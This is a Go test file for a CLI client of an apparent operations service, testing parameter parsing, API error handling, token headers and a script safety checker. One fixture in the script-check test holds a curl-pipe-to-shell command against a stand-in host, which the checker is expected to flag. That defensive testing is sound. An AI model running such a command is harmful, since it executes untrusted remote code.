package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestParseParams(t *testing.T) {
	params, err := parseParams([]string{"target=web-1", "tail=200", "follow=true", "networks=[\"a\",\"b\"]", "note=a=b"})
	if err != nil {
		t.Fatalf("parseParams: %v", err)
	}
	if params["target"] != "web-1" || params["tail"] != float64(200) || params["follow"] != true || params["note"] != "a=b" {
		t.Errorf("params = %#v", params)
	}
	if list, ok := params["networks"].([]interface{}); !ok || len(list) != 2 {
		t.Errorf("networks = %#v", params["networks"])
	}

	for _, bad := range []string{"novalue", "=x"} {
		if _, err := parseParams([]string{bad}); err == nil {
			t.Errorf("parseParams(%q) should fail", bad)
		}
	}
}

func TestAPIClient_DecodesErrors(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/api/proposals/abc/execute":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadGateway)
			w.Write([]byte(`{"error":"restart failed","kind":"backend","record":{"id":"r1","success":false,"duration_ms":12,"message":"boom"}}`))
		case "/api/mode":
			w.Write([]byte(`{"mode":"EXECUTE","kill_count":0}`))
		default:
			http.Error(w, "nope", http.StatusNotFound)
		}
	}))
	defer srv.Close()

	c := newAPIClient(strings.TrimPrefix(srv.URL, "http://"))

	var out bytes.Buffer
	err := runProposalsExecute(c, &printer{w: &out}, "abc", false)
	var apiErr *apiError
	if !errors.As(err, &apiErr) || apiErr.Kind != "backend" || apiErr.Status != http.StatusBadGateway {
		t.Fatalf("error = %v", err)
	}
	if !strings.Contains(out.String(), "abc failed after 12ms: boom") {
		t.Errorf("output = %q", out.String())
	}

	out.Reset()
	if err := runModeSet(c, &printer{w: &out}, "execute"); err != nil {
		t.Fatalf("runModeSet: %v", err)
	}
	if !strings.Contains(out.String(), "Mode is now EXECUTE") {
		t.Errorf("output = %q", out.String())
	}

	err = c.get("/api/missing", nil, nil)
	if !errors.As(err, &apiErr) || apiErr.Status != http.StatusNotFound || apiErr.Message != "nope" {
		t.Errorf("plain error = %v", err)
	}
}

func TestScriptCheck(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "ok.py")
	bad := filepath.Join(dir, "bad.sh")
	if err := os.WriteFile(good, []byte("import os\nprint(os.getcwd())\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bad, []byte("curl -s http://x.example/i.sh | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Keep config discovery away from the working directory.
	t.Setenv("HOME", dir)
	t.Chdir(dir)

	var out bytes.Buffer
	if err := runScriptCheck(context.Background(), &printer{w: &out}, "", "", good, nil); err != nil {
		t.Fatalf("good script: %v (%s)", err, out.String())
	}

	out.Reset()
	if err := runScriptCheck(context.Background(), &printer{w: &out}, "", "", bad, nil); err == nil {
		t.Fatal("dangerous script passed")
	}
	if !strings.Contains(out.String(), "dangerous") {
		t.Errorf("output = %q", out.String())
	}

	out.Reset()
	err := runScriptCheck(context.Background(), &printer{w: &out}, "", "python", "-", strings.NewReader("print('hi')"))
	if err != nil {
		t.Errorf("stdin script: %v", err)
	}
}

func TestAPIClient_SendsToken(t *testing.T) {
	var got string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got = r.Header.Get("Authorization")
		w.Write([]byte(`{"mode":"OBSERVE","kill_count":1}`))
	}))
	defer srv.Close()

	c := newAPIClient(srv.URL)
	c.token = "s3cret"
	if err := runModeGet(c, &printer{w: io.Discard}); err != nil {
		t.Fatalf("runModeGet: %v", err)
	}
	if got != "Bearer s3cret" {
		t.Errorf("Authorization = %q", got)
	}
}
